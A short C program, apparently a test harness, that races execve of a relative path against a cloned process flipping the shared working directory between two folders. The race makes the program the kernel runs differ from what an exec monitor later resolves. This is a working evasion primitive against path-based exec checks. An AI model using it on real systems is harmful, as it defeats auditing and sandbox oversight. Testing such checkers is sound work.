/*
 * Attacks on the name of an exec: by its path a program is one thing to the kernel and another to whoever judges it a moment later.
 * exec-name FOLDER NAME TRIES WORD…: runs NAME (relative) with the arguments WORD…, while another process that shares the working directory
 * goes to and fro between FOLDER/one and FOLDER/two.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void walk(const char *one, const char *two) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (int i = 0; i < 200000000; i++) {
    if (chdir(one) != 0) _exit(2);
    for (volatile int k = 0; k < 3000; k++) continue;
    if (chdir(two) != 0) _exit(2);
    for (volatile int k = 0; k < 3000; k++) continue;
  }
  _exit(0);
}

int main(int argc, char **argv) {
  char one[512], two[512];
  if (argc < 5) return 2;
  snprintf(one, sizeof one, "%s/one", argv[1]);
  snprintf(two, sizeof two, "%s/two", argv[1]);
  pid_t walker = (pid_t)syscall(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0);
  if (walker == 0) walk(one, two);
  for (int i = 0; i < atoi(argv[3]); i++) {
    pid_t child = (pid_t)syscall(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) {
      execve(argv[2], argv + 4, (char *[]){NULL});
      _exit(3);
    }
    waitpid(child, NULL, 0);
  }
  kill(walker, SIGKILL);
  waitpid(walker, NULL, 0);
  return 0;
}
